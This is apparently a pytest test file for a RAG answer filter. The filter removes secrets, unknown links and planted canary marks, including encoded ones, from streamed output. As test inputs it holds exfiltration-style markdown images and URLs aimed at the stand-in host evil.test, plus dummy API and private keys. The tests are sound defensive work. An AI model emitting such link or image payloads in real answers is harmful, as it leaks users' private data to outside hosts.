"""What should stay inside does not leave, however the answer is cut into pieces."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import given, strategies as st

from luthier.core.secrets import reveal
from luthier.rag.guarding.outgoing import Outgoing, OutgoingRules

RULES = OutgoingRules("redact", "redact", ("docs.example.org",), "No.", ("ref-0123456789abcdef",))
KNOWN = ["See https://maker.example/wood?id=4 and [here](https://maker.example/glue)."]
KEY = "sk-" + "a1B2c3D4e5F6g7H8i9J0k1L2"


def whole(text: str, rules: OutgoingRules = RULES) -> str:
    return Outgoing(rules, KNOWN).whole(text)


@pytest.mark.parametrize(
    ("said", "left"),
    [
        ("The key is AKIAIOSFODNN7EXAMPLE, use it.", "The key is [SECRET], use it."),
        ("See https://maker.example/wood?id=4.", "See https://maker.example/wood?id=4."),
        ("See https://evil.test/?q=all+he+said.", "See [link removed]"),
        ("![x](https://evil.test/p.png?d=secret) Fine.", "[link removed] Fine."),
        ("![x](https://maker.example/wood?id=4)", "[link removed]"),
        ("![x](https://img.docs.example.org/a.png)", "![x](https://img.docs.example.org/a.png)"),
        ("Go [there](https://evil.test/a) now.", "Go there now."),
        ("A [b](https://maker.example/glue) c.", "A [b](https://maker.example/glue) c."),
        ("Go [there](#glue) now.", "Go [there](#glue) now."),
        ('<img src="https://evil.test/x">', "[link removed]"),
        ("Or www.evil.test/steal?d=1 instead", "Or [link removed] instead"),
        ("Add two numbers: a // b and 1/2.", "Add two numbers: a // b and 1/2."),
        ("https://user:pw12@docs.example.org/x", "https://[CREDENTIALS]@docs.example.org/x"),
    ],
)  # fmt: skip
def test_what_leaves(said: str, left: str) -> None:
    assert whole(said) == left


BLOCK = (
    "Here.\n-----BEGIN RSA PRIVATE KEY-----\nMIIEabc\nxyz==\n-----END RSA PRIVATE KEY-----\n"
    f"End of {KEY} it."
)


def test_a_private_key_is_taken_out_as_a_whole() -> None:
    left = whole(BLOCK)
    assert "MIIE" not in left
    assert "xyz" not in left
    assert "PRIVATE" not in left
    assert KEY not in left
    assert left.startswith("Here.\n")
    assert left.endswith("it.")
    assert "MIIE" not in whole("-----BEGIN PRIVATE KEY-----\nMIIE\nnever ended")


def test_secrets_of_the_project_are_taken_out(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LUTHIER_TEST_PASSWORD", "plain old words 77")
    reveal("${LUTHIER_TEST_PASSWORD}")
    assert whole("It is plain old words 77, I think.") == "It is ***, I think."


def test_a_secret_can_stop_the_answer() -> None:
    watch = Outgoing(RULES._replace(secrets="stop"), [])
    assert watch.feed("Fine. ") == []
    assert watch.feed(f"It is {KEY}. More") == ["Fine. ", "No."]
    assert (watch.feed(" comes."), watch.end(), watch.stopped) == ([], [], "secret")
    assert whole(f"Fine. It is {KEY}.", RULES._replace(secrets="stop")) == "No."


@pytest.mark.parametrize(
    "mark",
    [
        "ref-0123456789abcdef",
        "REF 0123 4567 89AB CDEF",
        "r e f. 0123456789. abcdef",
        "fedcba9876543210-fer",
        "cmVmLTAxMjM0NTY3ODlhYmNkZWY=",
        "7265662d30313233343536373839616263646566",
    ],
)
def test_a_planted_mark_stops_the_answer(mark: str) -> None:
    assert whole(f"My orders: {mark} and so on.") == "No."
    watch = Outgoing(RULES, [])
    told = [one for sign in f"Well. {mark} and so on. More" for one in watch.feed(sign)]
    assert told[-1] == "No."
    assert "0123" not in "".join(told)
    assert watch.stopped == "planted mark"
    assert watch.end() == []


def test_rules_can_be_switched_off() -> None:
    off = OutgoingRules("keep", "keep", (), "No.", ())
    said = f"{KEY} at https://evil.test/?q=1. ref-0123456789abcdef"
    assert whole(said, off) == said


def test_hidden_texts_are_left_out_also_across_sentences() -> None:
    watch = Outgoing(RULES, [], lambda text: "red. Box" in text or "vault" in text)
    assert watch.whole("It is red. Box it. The vault is open. End.") == "It is red. End."
    assert watch.removed["hidden"] == 2


TEXT = (
    BLOCK + " Then ![x](https://evil.test/p?d=1) and https://evil.test/b. ref-01234567 is short. Ok"
)


@given(st.lists(st.integers(0, len(TEXT)), max_size=8))
def test_a_stream_says_what_the_whole_says(cuts: list[int]) -> None:
    watch = Outgoing(RULES, KNOWN)
    places = sorted({0, len(TEXT), *cuts})
    told = [one for a, b in itertools.pairwise(places) for one in watch.feed(TEXT[a:b])]
    assert "".join(told + watch.end()) == whole(TEXT)
